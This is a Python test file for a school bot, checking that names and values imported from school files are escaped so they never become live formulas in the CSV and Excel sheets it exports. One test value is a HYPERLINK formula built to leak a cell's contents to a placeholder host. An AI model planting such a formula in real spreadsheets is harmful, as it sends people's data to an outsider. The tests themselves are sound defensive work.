"""Text imported from a school file never becomes a live formula in a file the bot writes."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.db import SessionMaker
from bot.documents.digest_files import digest_xlsx
from bot.documents.link_sheets import sheet_csv
from bot.documents.safe_cells import safe_cell, safe_row
from models.attendance_queries import Month
from models.digest_figures import GroupDigest, StudentLine
from models.importing import ImportReport
from models.linking import get_group_by_code, issue_codes_for_group
from tests.application import POLICY
from tests.importing.files import csv_bytes, load_templates
from tests.importing.settings import limits
from tests.security.crafted import attempt

HYPERLINK = '=HYPERLINK("https://example.invalid/?leak="&D2,"Open")'


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Anna", "Ā=1", "", 5, -3, 2.5, None])
def test_other_values_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_a_row_keeps_its_numbers() -> None:
    assert safe_row(["=A1", -1, "x"]) == ["'=A1", -1, "x"]


async def test_an_imported_formula_name_is_inert_in_the_code_sheet(
    sessionmaker: SessionMaker, tmp_path: Path
) -> None:
    await load_templates(sessionmaker, tmp_path, upto="groups")
    rows = [
        ["student_number", "first_name", "last_name", "group"],
        ["S-1", HYPERLINK, "-Ozola", "DT-31"],
    ]
    report = await attempt(sessionmaker, csv_bytes(rows), "students.csv", limits=limits())
    assert isinstance(report, ImportReport) and report.ok, report
    async with sessionmaker.begin() as session:
        group = await get_group_by_code(session, code="DT-31")
        assert group is not None
        codes = await issue_codes_for_group(
            session, group=group, ttl_days=30, now=datetime.now(UTC), policy=POLICY
        )
    written = sheet_csv(codes, "school_bot").decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]

    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'-Ozola {HYPERLINK}" in cells or f"'{HYPERLINK} -Ozola" in cells


def test_digest_table_cells_are_text_never_formulas() -> None:
    line = StudentLine(student_id=1, name=HYPERLINK)
    digest = GroupDigest(
        group_id=1,
        code="DT-31",
        month=Month(2025, 10),
        weeks=[],
        subjects=["+Math"],
        students=[line],
    )

    sheet = load_workbook(io.BytesIO(digest_xlsx(digest, "en", limit=8))).active
    assert sheet is not None

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["A2"].value == "'" + HYPERLINK
    assert any(cell.value == "'+Math: average" for cell in cells)
